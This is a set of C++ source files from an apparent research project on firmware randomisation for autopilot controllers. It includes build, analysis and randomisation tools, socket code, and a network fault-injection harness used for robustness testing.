  for (int second = 1; second <= seconds; ++second) {
    for (int tick = 0; tick < 100; ++tick) {
      flight.step(0.01);
      board.run_cycles(160'000);
      if (master) master->service();
    }
    gcs.poll();
    std::printf("%-5d %-10.1f %-10d %-9llu %-9llu %-7s %s\n", second,
                flight.state().roll_deg,
                gcs.last_imu() ? gcs.last_imu()->xgyro : 0,
                static_cast<unsigned long long>(gcs.packets_received()),
                static_cast<unsigned long long>(
                    board.feed_line().write_count()),
                gcs.garbage_bytes() == 0 ? "clean" : "garbage",
                board.cpu().state() == avr::CpuState::Running ? "flying"
                                                              : "DOWN");
  }
  if (master != nullptr) {
    std::printf("[mavr] attacks detected: %llu, randomizations: %u\n",
                static_cast<unsigned long long>(master->attacks_detected()),
                master->randomizations());
  }
  return 0;
}
