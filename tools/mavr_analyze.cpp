// mavr-analyze — batch static analysis of MAVR container HEX files:
// whole-image CFG, taint-ranked gadget census and the derived per-function
// detector policy (DESIGN.md §15), with an optional content-addressed
// analysis cache shared across images. Rerandomized builds of the same
// program hit the cache function-by-function.
//
//   mavr-analyze [--cache <file>] [--json] [--taint-source <hex>]...
//                <container.hex>...
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <sstream>
#include <vector>

#include "analysis/analyze.hpp"
#include "defense/preprocess.hpp"
#include "support/error.hpp"
#include "toolchain/intelhex.hpp"

namespace {

void usage() {
  std::fprintf(stderr,
               "usage: mavr-analyze [--cache <file>] [--json] "
               "[--taint-source <hex>]... <container.hex>...\n");
  std::exit(2);
}

std::string read_file(const char* path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    std::fprintf(stderr, "cannot open %s\n", path);
    std::exit(1);
  }
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;

  const char* cache_path = nullptr;
  bool json = false;
  analysis::AnalyzeOptions options;
  bool custom_sources = false;
  std::vector<const char*> inputs;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--cache") == 0 && i + 1 < argc) {
      cache_path = argv[++i];
    } else if (std::strcmp(argv[i], "--json") == 0) {
      json = true;
    } else if (std::strcmp(argv[i], "--taint-source") == 0 && i + 1 < argc) {
      if (!custom_sources) {
        options.taint_sources.clear();
        custom_sources = true;
      }
      options.taint_sources.push_back(static_cast<std::uint16_t>(
          std::strtoul(argv[++i], nullptr, 16)));
    } else if (argv[i][0] == '-') {
      usage();
    } else {
      inputs.push_back(argv[i]);
    }
  }
  if (inputs.empty()) usage();

  std::unique_ptr<analysis::AnalysisCache> cache;
  cache = cache_path != nullptr
              ? std::make_unique<analysis::AnalysisCache>(cache_path)
              : std::make_unique<analysis::AnalysisCache>();
  const analysis::Analyzer analyzer(cache.get(), options);

  std::uint64_t hits = 0;
  std::uint64_t misses = 0;
  for (const char* path : inputs) {
    try {
      const toolchain::HexImage hex =
          toolchain::intel_hex_decode(read_file(path));
      const defense::Container container = defense::parse_container(hex.data);
      const analysis::AnalysisReport report =
          analyzer.analyze(container.image, container.blob);
      hits += report.cache_hits;
      misses += report.cache_misses;
      if (json) {
        std::printf("%s", analysis::report_json(report).c_str());
      } else {
        std::printf("== %s ==\n%s", path,
                    analysis::report_text(report).c_str());
      }
    } catch (const support::Error& e) {
      std::fprintf(stderr, "%s: %s\n", path, e.what());
      return 1;
    }
  }
  if (!json) {
    std::fprintf(stderr, "cache: %llu hits, %llu misses",
                 static_cast<unsigned long long>(hits),
                 static_cast<unsigned long long>(misses));
    if (cache_path != nullptr) {
      std::fprintf(stderr,
                   " (%llu records loaded, %llu rejected)",
                   static_cast<unsigned long long>(
                       cache->load_stats().records_loaded),
                   static_cast<unsigned long long>(
                       cache->load_stats().records_rejected));
    }
    std::fprintf(stderr, "\n");
  }
  return 0;
}
