// mavr-build — generate an autopilot firmware, run the MAVR preprocessing
// stage and write the flashable container HEX (symbol blob + binary).
//
//   mavr-build <arduplane|arducopter|ardurover|testapp> <out.hex>
//              [--stock] [--vulnerable] [--seed N]
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>

#include "defense/preprocess.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"

namespace {

void usage() {
  std::fprintf(stderr,
               "usage: mavr-build <arduplane|arducopter|ardurover|testapp> "
               "<out.hex> [--stock] [--vulnerable] [--seed N]\n");
  std::exit(2);
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mavr;
  if (argc < 3) usage();

  bool vulnerable = false;
  bool stock = false;
  std::uint64_t seed_override = 0;
  bool has_seed = false;
  for (int i = 3; i < argc; ++i) {
    if (std::strcmp(argv[i], "--stock") == 0) {
      stock = true;
    } else if (std::strcmp(argv[i], "--vulnerable") == 0) {
      vulnerable = true;
    } else if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
      seed_override = std::strtoull(argv[++i], nullptr, 0);
      has_seed = true;
    } else {
      usage();
    }
  }

  firmware::AppProfile profile;
  const std::string name = argv[1];
  if (name == "arduplane") profile = firmware::arduplane(vulnerable);
  else if (name == "arducopter") profile = firmware::arducopter(vulnerable);
  else if (name == "ardurover") profile = firmware::ardurover(vulnerable);
  else if (name == "testapp") profile = firmware::testapp(vulnerable);
  else usage();
  if (has_seed) profile.seed = seed_override;

  const toolchain::ToolchainOptions options =
      stock ? toolchain::ToolchainOptions::stock()
            : toolchain::ToolchainOptions::mavr();
  const firmware::Firmware fw = firmware::generate(profile, options);

  const std::string hex = defense::preprocess_to_hex(fw.image);
  std::ofstream out(argv[2], std::ios::binary);
  if (!out) {
    std::fprintf(stderr, "cannot open %s\n", argv[2]);
    return 1;
  }
  out << hex;

  std::printf("%s: %u bytes of code, %zu functions, %zu pointer slots, "
              "%s flags%s -> %s (%zu bytes of HEX)\n",
              profile.name.c_str(), fw.image.size_bytes(),
              fw.image.function_count(), fw.image.pointer_slots.size(),
              stock ? "stock" : "MAVR", vulnerable ? ", VULNERABLE" : "",
              argv[2], hex.size());
  return 0;
}
