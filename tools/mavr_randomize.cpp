// mavr-randomize — run the master processor's randomize+patch pass offline
// on a container HEX, the way the MAVR hardware does it at boot.
//
//   mavr-randomize <container.hex> <out.hex> [--seed N] [--stats]
//
// The output is a plain firmware HEX (what gets programmed into the
// application processor); it contains no symbol information.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>

#include "defense/patcher.hpp"
#include "defense/preprocess.hpp"
#include "toolchain/intelhex.hpp"

int main(int argc, char** argv) {
  using namespace mavr;
  if (argc < 3) {
    std::fprintf(stderr,
                 "usage: mavr-randomize <container.hex> <out.hex> "
                 "[--seed N] [--stats]\n");
    return 2;
  }
  std::uint64_t seed = 1;
  bool stats = false;
  for (int i = 3; i < argc; ++i) {
    if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
      seed = std::strtoull(argv[++i], nullptr, 0);
    } else if (std::strcmp(argv[i], "--stats") == 0) {
      stats = true;
    }
  }

  std::ifstream in(argv[1], std::ios::binary);
  if (!in) {
    std::fprintf(stderr, "cannot open %s\n", argv[1]);
    return 1;
  }
  std::ostringstream ss;
  ss << in.rdbuf();

  const toolchain::HexImage hex = toolchain::intel_hex_decode(ss.str());
  const defense::Container container = defense::parse_container(hex.data);

  support::Rng rng(seed);
  const defense::RandomizeResult result =
      defense::randomize_image(container.image, container.blob, rng);

  std::ofstream out(argv[2], std::ios::binary);
  if (!out) {
    std::fprintf(stderr, "cannot open %s\n", argv[2]);
    return 1;
  }
  out << toolchain::intel_hex_encode(result.image);

  std::printf("randomized %zu-byte image with seed %llu -> %s\n",
              result.image.size(),
              static_cast<unsigned long long>(seed), argv[2]);
  if (stats) {
    std::printf("  moved functions:       %u\n", result.moved_functions);
    std::printf("  patched CALL/JMP:      %u\n", result.patched_abs_jumps);
    std::printf("  mid-function targets:  %u (binary-search cases)\n",
                result.mid_function_targets);
    std::printf("  patched pointer slots: %u\n", result.patched_pointers);
  }
  return 0;
}
