#include "support/log.hpp"

#include <cstdio>

namespace mavr::support {

namespace {

LogLevel g_level = LogLevel::Warn;

const char* level_name(LogLevel level) {
  switch (level) {
    case LogLevel::Trace: return "TRACE";
    case LogLevel::Debug: return "DEBUG";
    case LogLevel::Info: return "INFO";
    case LogLevel::Warn: return "WARN";
    case LogLevel::Error: return "ERROR";
    case LogLevel::Off: return "OFF";
  }
  return "?";
}

}  // namespace

void set_log_level(LogLevel level) { g_level = level; }

LogLevel log_level() { return g_level; }

void log_line(LogLevel level, const std::string& component,
              const std::string& message) {
  if (level < g_level || g_level == LogLevel::Off) return;
  std::fprintf(stderr, "[%s] %s: %s\n", level_name(level), component.c_str(),
               message.c_str());
}

}  // namespace mavr::support
