#include "support/socket.hpp"

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>
#include <vector>

#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "support/error.hpp"
#include "support/parse.hpp"

namespace mavr::support {

namespace {

sockaddr_un make_addr(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  MAVR_REQUIRE(path.size() < sizeof addr.sun_path,
               "AF_UNIX path too long (sun_path limit)");
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  return addr;
}

/// Waits for readability. true = readable (or error pending — the
/// following read reports it); false = timed out.
///
/// EINTR restarts the poll with the time *remaining to the original
/// deadline*, not the full timeout: under a signal storm a bounded wait
/// must stay bounded (a per-signal restart of the full slice would extend
/// it without limit).
bool wait_readable(int fd, int timeout_ms) {
  pollfd pfd{fd, POLLIN, 0};
  using Clock = std::chrono::steady_clock;
  const auto deadline = Clock::now() + std::chrono::milliseconds(
                                           timeout_ms < 0 ? 0 : timeout_ms);
  int remaining = timeout_ms;
  for (;;) {
    const int rc = ::poll(&pfd, 1, remaining);
    if (rc > 0) return true;
    if (rc == 0) return false;
    if (errno != EINTR) return true;  // let read() surface the error
    if (timeout_ms < 0) continue;     // infinite wait: just restart
    const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
        deadline - Clock::now());
    remaining = static_cast<int>(std::max<std::int64_t>(0, left.count()));
    if (remaining == 0) return false;
  }
}

void set_nodelay(int fd) {
  const int one = 1;
  // Best-effort: frames are small request/reply pairs, so Nagle only adds
  // latency. A failure here degrades latency, never correctness.
  ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
}

/// getaddrinfo wrapper; throws support::Error on resolution failure.
/// Caller owns the returned list (freeaddrinfo).
addrinfo* resolve_tcp(const std::string& host, std::uint16_t port,
                      bool passive) {
  addrinfo hints{};
  hints.ai_family = AF_UNSPEC;
  hints.ai_socktype = SOCK_STREAM;
  hints.ai_protocol = IPPROTO_TCP;
  if (passive) hints.ai_flags = AI_PASSIVE;
  addrinfo* result = nullptr;
  const std::string port_str = std::to_string(port);
  const int rc = ::getaddrinfo(host.empty() ? nullptr : host.c_str(),
                               port_str.c_str(), &hints, &result);
  if (rc != 0) {
    throw Error("cannot resolve tcp:" + host + ":" + port_str + ": " +
                ::gai_strerror(rc));
  }
  return result;
}

/// Reads back the locally bound port (resolves port 0 to the kernel's
/// ephemeral choice).
std::uint16_t bound_port(int fd) {
  sockaddr_storage ss{};
  socklen_t len = sizeof ss;
  MAVR_CHECK(::getsockname(fd, reinterpret_cast<sockaddr*>(&ss), &len) == 0,
             "getsockname failed");
  if (ss.ss_family == AF_INET) {
    return ntohs(reinterpret_cast<const sockaddr_in&>(ss).sin_port);
  }
  if (ss.ss_family == AF_INET6) {
    return ntohs(reinterpret_cast<const sockaddr_in6&>(ss).sin6_port);
  }
  throw Error("bound socket has unexpected address family");
}

}  // namespace

Socket& Socket::operator=(Socket&& other) noexcept {
  if (this != &other) {
    close();
    fd_ = other.release();
    fault_ = std::move(other.fault_);
  }
  return *this;
}

int Socket::release() {
  const int fd = fd_;
  fd_ = -1;
  return fd;
}

void Socket::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

bool Socket::send_all(std::span<const std::uint8_t> data) {
  if (fd_ < 0) return false;
  std::vector<std::uint8_t> mutated;  // only allocated when corrupting
  if (fault_ != nullptr) {
    const SocketFaultHook::SendPlan plan = fault_->plan_send(data.size());
    if (plan.delay_ms > 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(plan.delay_ms));
    }
    // A half-open connection or a dropped frame both *succeed* from the
    // caller's view — exactly the lie a real network tells. The peer's
    // silence (and the caller's reply timeout) is what surfaces it.
    if (plan.half_open || plan.drop) return true;
    if (plan.corrupt_at < data.size()) {
      mutated.assign(data.begin(), data.end());
      mutated[plan.corrupt_at] =
          static_cast<std::uint8_t>(mutated[plan.corrupt_at] ^
                                    plan.corrupt_mask);
      data = mutated;
    }
    if (plan.truncate_to < data.size()) {
      // Deliver the prefix, then slam the write side: the peer reads a
      // torn frame followed by EOF — indistinguishable from a sender
      // dying mid-write.
      data = data.first(plan.truncate_to);
      std::size_t sent = 0;
      while (sent < data.size()) {
        const ssize_t n = ::send(fd_, data.data() + sent,
                                 data.size() - sent, MSG_NOSIGNAL);
        if (n < 0) {
          if (errno == EINTR) continue;
          break;
        }
        sent += static_cast<std::size_t>(n);
      }
      ::shutdown(fd_, SHUT_WR);
      return false;
    }
  }
  std::size_t sent = 0;
  while (sent < data.size()) {
    const ssize_t n = ::send(fd_, data.data() + sent, data.size() - sent,
                             MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    sent += static_cast<std::size_t>(n);
  }
  return true;
}

IoStatus Socket::recv_exact(std::uint8_t* dst, std::size_t n,
                            int timeout_ms) {
  if (fd_ < 0) return IoStatus::kClosed;
  if (fault_ != nullptr) {
    if (fault_->recv_hung()) {
      // Half-open: the peer's bytes never arrive. Burn the caller's own
      // timeout budget so the hang is observed the way a real one is —
      // as silence, not as an error. An infinite wait would livelock the
      // harness, so it degrades to kClosed after a bounded stall.
      std::this_thread::sleep_for(
          std::chrono::milliseconds(timeout_ms >= 0 ? timeout_ms : 1'000));
      return timeout_ms >= 0 ? IoStatus::kTimeout : IoStatus::kClosed;
    }
    const std::uint32_t delay = fault_->plan_recv_delay();
    if (delay > 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(delay));
    }
  }
  using Clock = std::chrono::steady_clock;
  const auto deadline = Clock::now() + std::chrono::milliseconds(
                                           timeout_ms < 0 ? 0 : timeout_ms);
  std::size_t got = 0;
  while (got < n) {
    int wait_ms = -1;
    if (timeout_ms >= 0) {
      const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
          deadline - Clock::now());
      wait_ms = static_cast<int>(std::max<std::int64_t>(0, left.count()));
    }
    if (!wait_readable(fd_, wait_ms)) {
      // A partial frame followed by silence means the stream is desynced:
      // report it as closed, not as a clean timeout.
      return got == 0 ? IoStatus::kTimeout : IoStatus::kClosed;
    }
    const ssize_t r = ::recv(fd_, dst + got, n - got, 0);
    if (r == 0) return IoStatus::kClosed;
    if (r < 0) {
      if (errno == EINTR) continue;
      return IoStatus::kClosed;
    }
    got += static_cast<std::size_t>(r);
  }
  return IoStatus::kOk;
}

std::pair<Socket, Socket> Socket::make_pair() {
  int fds[2] = {-1, -1};
  MAVR_CHECK(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds) == 0,
             "socketpair failed");
  return {Socket(fds[0]), Socket(fds[1])};
}

std::optional<Endpoint> parse_endpoint(const std::string& spec) {
  Endpoint ep;
  if (spec.rfind("unix:", 0) == 0) {
    ep.kind = Endpoint::Kind::kUnix;
    ep.path = spec.substr(5);
    if (ep.path.empty()) return std::nullopt;
    return ep;
  }
  if (spec.rfind("tcp:", 0) == 0) {
    ep.kind = Endpoint::Kind::kTcp;
    std::string rest = spec.substr(4);
    std::string port_str;
    if (!rest.empty() && rest.front() == '[') {
      // Bracketed IPv6 literal: tcp:[::1]:9000
      const std::size_t close = rest.find("]:");
      if (close == std::string::npos) return std::nullopt;
      ep.host = rest.substr(1, close - 1);
      port_str = rest.substr(close + 2);
    } else {
      const std::size_t colon = rest.rfind(':');
      if (colon == std::string::npos) return std::nullopt;
      ep.host = rest.substr(0, colon);
      port_str = rest.substr(colon + 1);
    }
    if (ep.host.empty()) return std::nullopt;
    const auto port = parse_u64_in(port_str.c_str(), 0, 65535);
    if (!port) return std::nullopt;
    ep.port = static_cast<std::uint16_t>(*port);
    return ep;
  }
  // Bare path: AF_UNIX, the pre-endpoint spelling.
  if (spec.empty()) return std::nullopt;
  ep.kind = Endpoint::Kind::kUnix;
  ep.path = spec;
  return ep;
}

std::string endpoint_name(const Endpoint& ep) {
  if (ep.kind == Endpoint::Kind::kUnix) return "unix:" + ep.path;
  const bool v6 = ep.host.find(':') != std::string::npos;
  return "tcp:" + (v6 ? "[" + ep.host + "]" : ep.host) + ":" +
         std::to_string(ep.port);
}

UnixListener::UnixListener(std::string path) {
  endpoint_.kind = Endpoint::Kind::kUnix;
  endpoint_.path = std::move(path);
  const sockaddr_un addr = make_addr(endpoint_.path);
  fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  MAVR_CHECK(fd_ >= 0, "socket(AF_UNIX) failed");
  ::unlink(endpoint_.path.c_str());  // replace a stale socket file
  if (::bind(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) !=
      0) {
    const int err = errno;
    ::close(fd_);
    fd_ = -1;
    throw Error("cannot bind " + endpoint_.path + ": " + std::strerror(err));
  }
  if (::listen(fd_, 64) != 0) {
    const int err = errno;
    ::close(fd_);
    fd_ = -1;
    ::unlink(endpoint_.path.c_str());
    throw Error("cannot listen on " + endpoint_.path + ": " +
                std::strerror(err));
  }
}

UnixListener::~UnixListener() {
  close();
  ::unlink(endpoint_.path.c_str());
}

void UnixListener::close() {
  if (fd_ >= 0) {
    // shutdown() (not close) unblocks a concurrent accept() without
    // racing fd reuse; the fd itself is reclaimed here afterwards.
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    fd_ = -1;
  }
}

Socket UnixListener::accept(int timeout_ms) {
  if (fd_ < 0) return Socket();
  if (!wait_readable(fd_, timeout_ms)) return Socket();
  const int fd = ::accept(fd_, nullptr, nullptr);
  return fd >= 0 ? Socket(fd) : Socket();
}

TcpListener::TcpListener(const std::string& host, std::uint16_t port) {
  endpoint_.kind = Endpoint::Kind::kTcp;
  endpoint_.host = host;
  endpoint_.port = port;
  addrinfo* list = resolve_tcp(host, port, /*passive=*/true);
  std::string last_error = "no addresses resolved";
  for (addrinfo* ai = list; ai != nullptr; ai = ai->ai_next) {
    const int fd = ::socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
    if (fd < 0) {
      last_error = std::strerror(errno);
      continue;
    }
    const int one = 1;
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (::bind(fd, ai->ai_addr, ai->ai_addrlen) != 0 ||
        ::listen(fd, 64) != 0) {
      last_error = std::strerror(errno);
      ::close(fd);
      continue;
    }
    fd_ = fd;
    break;
  }
  ::freeaddrinfo(list);
  if (fd_ < 0) {
    throw Error("cannot listen on tcp:" + host + ":" + std::to_string(port) +
                ": " + last_error);
  }
  endpoint_.port = bound_port(fd_);
}

TcpListener::~TcpListener() { close(); }

void TcpListener::close() {
  if (fd_ >= 0) {
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    fd_ = -1;
  }
}

Socket TcpListener::accept(int timeout_ms) {
  if (fd_ < 0) return Socket();
  if (!wait_readable(fd_, timeout_ms)) return Socket();
  const int fd = ::accept(fd_, nullptr, nullptr);
  if (fd < 0) return Socket();
  set_nodelay(fd);
  return Socket(fd);
}

std::unique_ptr<Listener> make_listener(const Endpoint& ep) {
  if (ep.kind == Endpoint::Kind::kUnix) {
    return std::make_unique<UnixListener>(ep.path);
  }
  return std::make_unique<TcpListener>(ep.host, ep.port);
}

Socket unix_connect(const std::string& path, int attempts, int backoff_ms) {
  const sockaddr_un addr = make_addr(path);
  for (int attempt = 1; attempt <= attempts; ++attempt) {
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    MAVR_CHECK(fd >= 0, "socket(AF_UNIX) failed");
    if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                  sizeof addr) == 0) {
      return Socket(fd);
    }
    ::close(fd);
    if (attempt < attempts && backoff_ms > 0) {
      const int delay = std::min(backoff_ms * attempt, 500);
      std::this_thread::sleep_for(std::chrono::milliseconds(delay));
    }
  }
  return Socket();
}

Socket tcp_connect(const std::string& host, std::uint16_t port, int attempts,
                   int backoff_ms) {
  for (int attempt = 1; attempt <= attempts; ++attempt) {
    addrinfo* list = nullptr;
    try {
      list = resolve_tcp(host, port, /*passive=*/false);
    } catch (const Error&) {
      // Transient resolution failure behaves like a refused connect:
      // retry within the attempt budget.
      list = nullptr;
    }
    for (addrinfo* ai = list; ai != nullptr; ai = ai->ai_next) {
      const int fd = ::socket(ai->ai_family, ai->ai_socktype,
                              ai->ai_protocol);
      if (fd < 0) continue;
      if (::connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) {
        set_nodelay(fd);
        ::freeaddrinfo(list);
        return Socket(fd);
      }
      ::close(fd);
    }
    if (list != nullptr) ::freeaddrinfo(list);
    if (attempt < attempts && backoff_ms > 0) {
      const int delay = std::min(backoff_ms * attempt, 500);
      std::this_thread::sleep_for(std::chrono::milliseconds(delay));
    }
  }
  return Socket();
}

Socket connect_endpoint(const Endpoint& ep, int attempts, int backoff_ms) {
  if (ep.kind == Endpoint::Kind::kUnix) {
    return unix_connect(ep.path, attempts, backoff_ms);
  }
  return tcp_connect(ep.host, ep.port, attempts, backoff_ms);
}

}  // namespace mavr::support
