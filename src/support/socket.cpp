#include "support/socket.hpp"

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>

#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "support/error.hpp"

namespace mavr::support {

namespace {

sockaddr_un make_addr(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  MAVR_REQUIRE(path.size() < sizeof addr.sun_path,
               "AF_UNIX path too long (sun_path limit)");
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  return addr;
}

/// Waits for readability. true = readable (or error pending — the
/// following read reports it); false = timed out.
bool wait_readable(int fd, int timeout_ms) {
  pollfd pfd{fd, POLLIN, 0};
  for (;;) {
    const int rc = ::poll(&pfd, 1, timeout_ms);
    if (rc > 0) return true;
    if (rc == 0) return false;
    if (errno != EINTR) return true;  // let read() surface the error
  }
}

}  // namespace

Socket& Socket::operator=(Socket&& other) noexcept {
  if (this != &other) {
    close();
    fd_ = other.release();
  }
  return *this;
}

int Socket::release() {
  const int fd = fd_;
  fd_ = -1;
  return fd;
}

void Socket::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

bool Socket::send_all(std::span<const std::uint8_t> data) {
  if (fd_ < 0) return false;
  std::size_t sent = 0;
  while (sent < data.size()) {
    const ssize_t n = ::send(fd_, data.data() + sent, data.size() - sent,
                             MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    sent += static_cast<std::size_t>(n);
  }
  return true;
}

IoStatus Socket::recv_exact(std::uint8_t* dst, std::size_t n,
                            int timeout_ms) {
  if (fd_ < 0) return IoStatus::kClosed;
  using Clock = std::chrono::steady_clock;
  const auto deadline = Clock::now() + std::chrono::milliseconds(
                                           timeout_ms < 0 ? 0 : timeout_ms);
  std::size_t got = 0;
  while (got < n) {
    int wait_ms = -1;
    if (timeout_ms >= 0) {
      const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
          deadline - Clock::now());
      wait_ms = static_cast<int>(std::max<std::int64_t>(0, left.count()));
    }
    if (!wait_readable(fd_, wait_ms)) {
      // A partial frame followed by silence means the stream is desynced:
      // report it as closed, not as a clean timeout.
      return got == 0 ? IoStatus::kTimeout : IoStatus::kClosed;
    }
    const ssize_t r = ::recv(fd_, dst + got, n - got, 0);
    if (r == 0) return IoStatus::kClosed;
    if (r < 0) {
      if (errno == EINTR) continue;
      return IoStatus::kClosed;
    }
    got += static_cast<std::size_t>(r);
  }
  return IoStatus::kOk;
}

std::pair<Socket, Socket> Socket::make_pair() {
  int fds[2] = {-1, -1};
  MAVR_CHECK(::socketpair(AF_UNIX, SOCK_STREAM, 0, fds) == 0,
             "socketpair failed");
  return {Socket(fds[0]), Socket(fds[1])};
}

UnixListener::UnixListener(std::string path) : path_(std::move(path)) {
  const sockaddr_un addr = make_addr(path_);
  fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  MAVR_CHECK(fd_ >= 0, "socket(AF_UNIX) failed");
  ::unlink(path_.c_str());  // replace a stale socket from a dead service
  if (::bind(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof addr) !=
      0) {
    const int err = errno;
    ::close(fd_);
    fd_ = -1;
    throw Error("cannot bind " + path_ + ": " + std::strerror(err));
  }
  if (::listen(fd_, 64) != 0) {
    const int err = errno;
    ::close(fd_);
    fd_ = -1;
    ::unlink(path_.c_str());
    throw Error("cannot listen on " + path_ + ": " + std::strerror(err));
  }
}

UnixListener::~UnixListener() {
  close();
  ::unlink(path_.c_str());
}

void UnixListener::close() {
  if (fd_ >= 0) {
    // shutdown() (not close) unblocks a concurrent accept() without
    // racing fd reuse; the fd itself is reclaimed here afterwards.
    ::shutdown(fd_, SHUT_RDWR);
    ::close(fd_);
    fd_ = -1;
  }
}

Socket UnixListener::accept(int timeout_ms) {
  if (fd_ < 0) return Socket();
  if (!wait_readable(fd_, timeout_ms)) return Socket();
  const int fd = ::accept(fd_, nullptr, nullptr);
  return fd >= 0 ? Socket(fd) : Socket();
}

Socket unix_connect(const std::string& path, int attempts, int backoff_ms) {
  const sockaddr_un addr = make_addr(path);
  for (int attempt = 1; attempt <= attempts; ++attempt) {
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    MAVR_CHECK(fd >= 0, "socket(AF_UNIX) failed");
    if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                  sizeof addr) == 0) {
      return Socket(fd);
    }
    ::close(fd);
    if (attempt < attempts && backoff_ms > 0) {
      const int delay = std::min(backoff_ms * attempt, 500);
      std::this_thread::sleep_for(std::chrono::milliseconds(delay));
    }
  }
  return Socket();
}

}  // namespace mavr::support
