// Deterministic network fault injection for the campaign service's
// stream transports (DESIGN.md §14).
//
// Same shape as support::FaultPlane (§9), lifted from the reflash links
// to the coordinator ↔ worker/client sockets: one seeded NetFaultPlane
// owns the schedule, every connection draws from its own child streams
// (Rng::fork by connection index × direction), and a tally of injected
// faults is kept for tests and benches. The plane decorates the
// transport through the SocketFaultHook seam in support/socket:
//
//  * FaultyListener wraps any Listener and arms each accepted Socket;
//  * faulty_connect arms the initiating side of a connection;
//
// so either end of the wire (or both) can be made hostile independently —
// the "per-direction" knob. Injected faults are the ones real multi-
// machine deployments produce:
//
//  * frame drops            — send succeeds locally, peer sees silence;
//  * byte corruption        — one transit bit flips; the CRC framing
//                             (campaignd/protocol) must catch it;
//  * bounded delays         — send/recv stalls inside the peer's timeout;
//  * short writes           — a frame prefix then EOF (torn stream);
//  * half-open hangs        — the connection goes permanently silent
//                             without a FIN, the classic pulled-cable.
//
// The schedule is a pure function of (config, seed, connection order):
// with a fixed accept sequence it replays exactly, and at any seed the
// service's results must stay bit-identical to in-process — faults may
// cost time, never bits.
#pragma once

#include <cstdint>
#include <memory>

#include "support/rng.hpp"
#include "support/socket.hpp"

namespace mavr::support {

/// Per-send/per-recv injection probabilities. All zero (never injects)
/// by default.
struct NetFaultConfig {
  double frame_drop = 0;    ///< per send: swallowed, reported as sent
  double byte_corrupt = 0;  ///< per send: one transit bit flipped
  double short_write = 0;   ///< per send: prefix + EOF (torn stream)
  double half_open = 0;     ///< per send: connection goes silent for good
  double delay = 0;         ///< per send and per recv: bounded stall
  std::uint32_t delay_max_ms = 20;  ///< stall bound (uniform in [1, max])

  /// Direction gates: a plane can sit on only the outbound or only the
  /// inbound half of its end of the wire.
  bool inject_send = true;
  bool inject_recv = true;

  /// Uniform fault pressure `rate` on every class except half_open, which
  /// is scaled down (a hang costs a full peer timeout to recover from, so
  /// at equal rates it dominates wall-clock and masks the other classes).
  static NetFaultConfig uniform(double rate);

  bool any() const {
    return frame_drop > 0 || byte_corrupt > 0 || short_write > 0 ||
           half_open > 0 || delay > 0;
  }
};

/// Tally of injected faults across every connection of one plane.
/// Snapshot via NetFaultPlane::stats().
struct NetFaultStats {
  std::uint64_t frames_dropped = 0;
  std::uint64_t frames_corrupted = 0;
  std::uint64_t short_writes = 0;
  std::uint64_t half_opens = 0;
  std::uint64_t delays = 0;
  std::uint64_t connections = 0;  ///< fault streams handed out

  std::uint64_t total() const {
    return frames_dropped + frames_corrupted + short_writes + half_opens +
           delays;
  }
};

class NetFaultPlane {
 public:
  /// Disarmed plane: hands out no hooks, injects nothing.
  NetFaultPlane() : NetFaultPlane(NetFaultConfig{}, Rng(0)) {}

  /// Armed plane; connection streams fork off `rng` by connection index.
  NetFaultPlane(const NetFaultConfig& config, const Rng& rng);
  ~NetFaultPlane();
  NetFaultPlane(const NetFaultPlane&) = delete;
  NetFaultPlane& operator=(const NetFaultPlane&) = delete;

  bool armed() const;
  const NetFaultConfig& config() const;

  /// Fault streams for the next connection (send stream = fork(2k),
  /// recv stream = fork(2k+1) of the plane's rng). Null when disarmed.
  /// Thread-safe: the accept loop and connecting workers may race.
  std::shared_ptr<SocketFaultHook> fork_connection();

  /// Arms `sock` with a freshly forked connection stream (no-op when the
